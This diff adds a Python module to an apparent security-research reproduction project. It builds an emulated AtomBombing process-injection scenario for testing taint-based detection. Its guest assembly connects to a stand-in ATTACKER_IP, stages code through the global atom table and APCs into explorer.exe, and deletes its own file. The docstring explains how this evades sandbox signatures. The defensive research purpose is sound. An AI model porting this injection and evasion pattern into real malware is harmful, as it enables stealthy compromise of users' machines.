@@ -1,0 +1,146 @@
+"""AtomBombing-style injection: no ``WriteProcessMemory`` anywhere.
+
+The technique (Microsoft's "stealthier cross-process injection" family,
+the paper's ref [1]) smuggles the payload through the **global atom
+table** -- kernel-owned storage any process can read -- and makes the
+*victim itself* pull the bytes in via an APC aimed at
+``GlobalGetAtomNameA``:
+
+1. malware receives the stage and parks it in an atom
+   (``GlobalAddAtomA``);
+2. malware allocates an RWX cave in the victim (the only direct touch);
+3. an APC forces the victim to call ``GlobalGetAtomNameA(atom, cave)``
+   -- the cross-process data movement is performed *by the victim*;
+4. a second APC enters the cave.
+
+Behavioural significance: the ``NtWriteVirtualMemory`` event that
+sandbox signatures key on never happens (the Cuckoo baseline's
+``writes_remote_memory`` signature stays silent).  Information-flow
+significance: nothing changes -- netflow taint rides through the atom
+table's kernel frames like any other copy, both process tags accrue,
+and FAROS flags the stage at its first export-table read.
+"""
+
+from __future__ import annotations
+
+from repro.attacks.common import (
+    ATTACKER_IP,
+    ATTACKER_PORT,
+    FIRST_EPHEMERAL_PORT,
+    GUEST_IP,
+    PAYLOAD_BASE,
+    assemble_image,
+    benign_host_asm,
+    recv_exact_asm,
+)
+from repro.attacks.metasploit import AttackScenario
+from repro.attacks.payloads import PAYLOAD_ENTRY_OFFSET, build_popup_payload
+from repro.emulator.devices import Packet
+from repro.emulator.record_replay import PacketEvent, Scenario
+from repro.guestos.loader import stub_address
+
+
+def _atombomber_asm(payload_size: int, target_name: str) -> str:
+    return f"""
+    start:
+        ; stage delivery over the C2 session
+        movi r0, SYS_SOCKET
+        syscall
+        mov r7, r0
+        mov r1, r7
+        movi r2, attacker_ip
+        movi r3, {ATTACKER_PORT}
+        movi r0, SYS_CONNECT
+        syscall
+{recv_exact_asm("r7", "stage_buf", payload_size, "atom")}
+        ; park the stage in the GLOBAL ATOM TABLE (kernel memory)
+        movi r1, stage_buf
+        movi r2, {payload_size}
+        movi r0, SYS_ADD_ATOM
+        syscall
+        mov r7, r0                  ; atom id
+        ; open the victim
+        movi r1, target_name
+        movi r0, SYS_FIND_PROCESS
+        syscall
+        mov r1, r0
+        movi r0, SYS_OPEN_PROCESS
+        syscall
+        mov r6, r0
+        ; an RWX cave in the victim (no data written to it by us!)
+        mov r1, r6
+        movi r2, {payload_size}
+        movi r3, PERM_RWX
+        movi r4, {PAYLOAD_BASE:#x}
+        movi r0, SYS_ALLOC_VM
+        syscall
+        ; APC #1: the VICTIM calls GlobalGetAtomNameA(atom, cave, size)
+        mov r1, r6
+        movi r2, {stub_address('GlobalGetAtomNameA'):#x}
+        mov r3, r7                  ; arg1 = atom id
+        movi r4, {PAYLOAD_BASE:#x}  ; arg2 = cave
+        movi r5, {payload_size}     ; arg3 = size
+        movi r0, SYS_QUEUE_APC
+        syscall
+        ; give the victim time to run the fetch APC
+        movi r1, 5000
+        movi r0, SYS_SLEEP
+        syscall
+        ; APC #2: enter the stage
+        mov r1, r6
+        movi r2, {PAYLOAD_BASE + PAYLOAD_ENTRY_OFFSET:#x}
+        movi r3, 0
+        movi r4, 0
+        movi r5, 0
+        movi r0, SYS_QUEUE_APC
+        syscall
+        ; anti-forensics
+        movi r1, own_path
+        movi r0, SYS_DELETE_FILE
+        syscall
+        movi r1, 0
+        movi r0, SYS_EXIT
+        syscall
+    attacker_ip: .asciz "{ATTACKER_IP}"
+    target_name: .asciz "{target_name}"
+    own_path: .asciz "atombomber.exe"
+    stage_buf: .space {payload_size}
+    """
+
+
+def build_atombombing_scenario(target_name: str = "explorer.exe") -> AttackScenario:
+    """AtomBombing into *target_name* with the popup stage."""
+    stage = build_popup_payload(PAYLOAD_BASE)
+    payload = stage.code
+
+    def setup(machine) -> None:
+        machine.kernel.register_image(
+            target_name, assemble_image(benign_host_asm(f"{target_name} up"))
+        )
+        machine.kernel.spawn(target_name)
+        machine.kernel.register_image(
+            "atombomber.exe", assemble_image(_atombomber_asm(len(payload), target_name))
+        )
+        machine.kernel.spawn("atombomber.exe")
+
+    events = [
+        (
+            20_000,
+            PacketEvent(
+                Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP, FIRST_EPHEMERAL_PORT, payload)
+            ),
+        )
+    ]
+    return AttackScenario(
+        scenario=Scenario(
+            name="atombombing",
+            setup=setup,
+            events=events,
+            max_instructions=500_000,
+        ),
+        client_process="atombomber.exe",
+        target_process=target_name,
+        payload_size=len(payload),
+        attacker_endpoint=f"{ATTACKER_IP}:{ATTACKER_PORT}",
+        module="atombombing",
+    )
